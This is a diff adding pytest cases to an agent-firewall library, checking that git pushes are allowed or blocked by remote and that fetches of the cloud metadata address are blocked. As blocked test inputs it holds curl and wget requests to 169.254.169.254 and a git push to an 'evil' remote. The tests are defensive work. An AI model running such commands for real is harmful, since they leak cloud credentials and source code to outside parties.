@@ -351,3 +351,41 @@ def test_curl_follows_a_redirect_only_with_location(tmp_path: Path) -> None:
     assert _blocks(_run(f"curl -fsSL '{public}'"), "http.metadata")
     assert _blocks(_run(f"wget -qO- '{public}'"), "http.metadata")  # wget follows by default
     assert _blocks(_run("curl -s 'http://169.254.169.254/latest/meta-data/?x=1'"), "http.metadata")
+
+
+@pytest.mark.parametrize(
+    ("allowed", "command", "action"),
+    [
+        ("git:git@github.com:acme/*", "git push git@github.com:acme/api.git feature/login", "allow"),
+        ("git:git@github.com:contrib/*", "git push git@github.com:acme/api.git feature/login", "block"),
+        ("git:origin", "git push origin feature/login", "allow"),
+        ("git:upstream", "git push origin feature/login", "block"),
+        # A branch named like an allowed remote does not make the push allowed.
+        ("git:main", "git push git@github.com:evil/x.git main", "block"),
+    ],
+)
+def test_git_push_scope_names_the_remote_not_the_branch(allowed: str, command: str, action: str) -> None:
+    """``git:`` patterns name remotes (docs/policy.md): the remote decides, the branch never does."""
+    import agentgate
+    from agentgate import Firewall
+    from agentgate.policy._config import Config
+
+    fw = Firewall(Config.model_validate({}), audit=None)
+    with agentgate.scope(task="push", allowed_operations=["write"], allowed_resources=[allowed]):
+        v = fw.evaluate(ToolCall("run_shell", {"command": command}))
+    assert v.action.value == action, v.reasoning
+
+
+@pytest.mark.parametrize("key", ["remote", "remote_url", "git_url"])
+def test_git_push_tool_is_decided_by_its_remote_argument(key: str) -> None:
+    """A dedicated ``git_push`` tool's remote, under any of the git resource's names, is the remote pushed to."""
+    import agentgate
+    from agentgate import Firewall
+    from agentgate.policy._config import Config
+
+    fw = Firewall(Config.model_validate({}), audit=None)
+    call = {key: "git@github.com:acme/api.git", "branch": "feature/search"}
+    for allowed, action in (("git:git@github.com:acme/*", "allow"), ("git:git@github.com:other/*", "block")):
+        with agentgate.scope(task="push", allowed_operations=["write"], allowed_resources=[allowed]):
+            v = fw.evaluate(ToolCall("git_push", call))
+        assert v.action.value == action, (allowed, v.reasoning)
